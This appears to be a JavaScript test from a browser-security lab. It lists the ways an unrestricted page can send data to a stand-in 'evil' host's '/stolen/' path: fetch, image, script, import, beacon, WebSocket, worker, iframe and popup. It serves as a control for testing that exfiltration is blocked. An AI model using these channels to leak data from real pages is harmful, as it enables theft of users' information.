// What the evil site would see if nothing held: the same ways out, taken by a
// page that nothing restrains.
"use strict";

lab.attack("ways out", async () => {
  const target = `${lab.evil}/stolen/`;
  await lab.tell(() => fetch(target + "fetch", { mode: "no-cors" }).then(() => ""), 1500);
  await lab.tell(() => lab.load("img", { src: target + "img" }), 1500);
  await lab.tell(() => lab.load("script", { src: target + "script.js" }), 1500);
  await lab.tell(() => import(target + "import.mjs").then(() => ""), 1500);
  navigator.sendBeacon(target + "beacon", "x");
  new WebSocket(target.replace("http:", "ws:") + "ws").onerror = () => {};
  new Worker(target + "worker.js").onerror = () => {};
  const child = document.createElement("iframe");
  child.src = target + "frame";
  document.body.append(child);
  const popup = window.open(target + "popup");
  await lab.sleep(1200);
  popup?.close();
  return {};
});
